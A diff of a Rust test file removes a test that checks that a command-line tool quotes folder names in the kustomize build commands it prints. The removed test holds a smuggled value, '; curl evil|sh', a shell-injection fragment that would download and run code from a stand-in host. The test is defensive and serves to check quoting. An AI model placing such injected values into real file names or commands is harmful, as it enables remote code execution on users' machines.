@@ -293,25 +293,6 @@ fn neither_a_configuration_nor_an_argument_is_printed_as_it_is() {
 }
 
 #[test]
-fn a_folder_stands_quoted_in_a_command() {
-    let folder = repository();
-    for (args, command) in [
-        (
-            ["inject", "--check", "transformed"],
-            "kustomize build --enable-alpha-plugins --enable-exec '",
-        ),
-        (["inject", "--diff", "overlay"], "kustomize build '"),
-    ] {
-        let ran = folder.run(&args);
-        assert!(
-            ran.stderr.contains(command) && ran.stderr.contains("; curl evil|sh'"),
-            "{ran:?}"
-        );
-        assert!(ran.stderr.contains(r"'\''id'\''"), "{ran:?}");
-    }
-}
-
-#[test]
 fn git_applies_the_diff_of_a_file_with_such_a_name() {
     let names = [
         file("web.yaml"),
